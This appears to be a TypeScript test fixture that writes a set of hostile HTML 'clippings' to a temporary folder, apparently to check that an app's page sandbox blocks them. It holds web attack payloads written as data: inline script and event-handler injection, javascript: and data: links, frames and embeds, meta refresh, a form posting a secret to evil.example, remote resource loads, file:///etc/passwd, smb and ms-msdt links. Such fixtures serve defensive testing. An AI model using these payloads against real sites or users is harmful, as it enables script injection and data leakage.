import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';

/** One hostile HTML clipping (after SECURITY.md §5.5, rows 1–6): its file, title and a sentence of its body. */
export interface HostileClipping {
  file: string;
  title: string;
  sentence: string;
}

// Every attack tries to report back: a postMessage to the app, a request to a host the fixture
// records, or a navigation of the frame. The styled lead paragraph checks that the page's own
// inline style and <style> survive (the frame must still look like the page).
const EVIL = 'https://evil.example';
const SENTENCE = 'talks about the shipping lanes would resume next week';

function page(title: string, head: string, body: string): string {
  return `<!doctype html><html><head><meta charset="utf-8"><title>${title}</title>
<style>.lead { color: rgb(160, 20, 20); } body { background: url(${EVIL}/bg.png) }</style>${head}</head>
<body>${body}<article><h1>${title}</h1>
<p class="lead" style="font-weight: 700">${title}: the harbour authority said on Monday that ${SENTENCE}.</p>
<p>Officials described the first round as constructive and expect a joint statement once the second round has ended.</p>
<p>Local traders welcomed the news, saying that months of uncertainty had kept ships waiting outside the port.</p>
</article></body></html>`;
}

const ATTACKS: Record<string, { title: string; head: string; body: string }> = {
  '01-script-handlers.html': {
    title: 'Script handlers clipping',
    head: `<script>parent.postMessage('head script', '*'); top.location = '${EVIL}/';</script>`,
    body: `<body onload="parent.postMessage('body onload', '*')">
<img src="x" onerror="parent.postMessage('img onerror', '*')"><input autofocus onfocus="parent.postMessage('onfocus', '*')">
<a href="javascript:parent.postMessage('javascript link', '*')">javascript link</a> <a href="JaVaScRiPt&#58;parent.postMessage(1,'*')">mixed case</a>
<svg onload="parent.postMessage('svg onload', '*')"><circle r="4"/></svg><div onmouseover="parent.postMessage('hover', '*')">hover me</div>`,
  },
  '02-embeds.html': {
    title: 'Embedded frames clipping',
    head: '',
    body: `<iframe src="${EVIL}/frame"></iframe><iframe srcdoc="<script>parent.parent.postMessage('inner srcdoc', '*')</script>"></iframe>
<object data="${EVIL}/object.swf"></object><embed src="${EVIL}/embed.swf"><portal src="${EVIL}/portal"></portal>`,
  },
  '04-meta-refresh-base-form.html': {
    title: 'Meta refresh clipping',
    head: `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh"><base href="${EVIL}/">`,
    body: `<form action="${EVIL}/post" method="post"><input name="q" value="secret" autofocus><button type="submit">Send</button></form>
<a href="relative/page.html">relative link</a>`,
  },
  '05-remote-refs.html': {
    title: 'Remote references clipping',
    head: `<link rel="stylesheet" href="${EVIL}/a.css"><link rel="preload" href="${EVIL}/font.woff2" as="font">
<style>@import url(${EVIL}/b.css); @import "${EVIL}/c.css";
@font-face { font-family: Evil; src: url(${EVIL}/evil.woff2) } p { font-family: Evil, serif; cursor: url(${EVIL}/c.cur), auto }</style>`,
    body: `<img src="${EVIL}/remote.png" alt="remote"><img srcset="${EVIL}/2x.png 2x" alt="srcset">
<img src="\\\\attacker\\share\\a.png" alt="unc"><img src="file:///etc/passwd" alt="file">
<div style="background-image: url('${EVIL}/inline.png')">inline style image</div><video poster="${EVIL}/poster.png" src="${EVIL}/v.mp4"></video>
<svg><image href="${EVIL}/svg.png" width="4" height="4"/></svg>`,
  },
  '06-links.html': {
    title: 'Dangerous links clipping',
    head: '',
    body: `<p><a href="file:///etc/passwd">file</a> <a href="smb://attacker/share">smb</a> <a href="ms-msdt:/id PCWDiagnostic">ms-msdt</a>
<a href="vscode://file/etc/passwd">vscode</a> <a href="data:text/html,<script>alert(1)</script>">data</a> <a href="gleaner-evil:x">custom</a>
<a href="https://bank.example@evil.example/">userinfo</a> <a href="${EVIL}/blank" target="_blank">new tab</a></p>`,
  },
};

/** Writes the hostile clippings into a fresh temporary folder and returns the folder and what it holds. */
export function writeHostileClippings(): { dir: string; clippings: HostileClipping[] } {
  const dir = path.join(mkdtempSync(path.join(tmpdir(), 'gleaner-hostile-')), 'hostile');
  mkdirSync(dir, { recursive: true });
  const clippings = Object.entries(ATTACKS).map(([file, { title, head, body }]) => {
    writeFileSync(path.join(dir, file), page(title, head, body));
    return { file, title, sentence: SENTENCE };
  });
  return { dir, clippings };
}
